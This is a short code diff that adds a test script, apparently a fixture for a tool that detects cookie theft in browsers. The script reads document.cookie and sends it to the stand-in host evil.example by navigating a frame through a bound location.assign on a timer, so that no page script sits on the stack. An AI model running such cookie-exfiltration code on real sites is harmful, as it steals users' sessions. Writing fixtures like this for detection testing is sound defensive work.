@@ -520,6 +520,20 @@ export const MAIN_WORLD_SCRIPTS = {
 })();`,
 
   /**
+   * Carries the cookie off with a frame's (a shop document of its own) location.assign bound and handed to a
+   * timer: the call runs with no script of the page's on the stack.
+   */
+  'navigation-bound': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  ${SHOP_FRAME}
+  frame('saq-nav-bound').then((f) => {
+    f.onload = null;
+    setTimeout(f.contentWindow.location.assign.bind(f.contentWindow.location), 0, 'https://evil.example/nav-bound?c=' + c);
+    setTimeout(() => (window.__navigated = true), 100);
+  });
+})();`,
+
+  /**
    * Carries the cookie off in navigations a script starts without `location`: links it follows — a click event
    * dispatched on a link into a frame (a shop document of its own), click() on an element inside a link into
    * another, click() on a link that opens a new window and on one the document's `<base target>` sends there
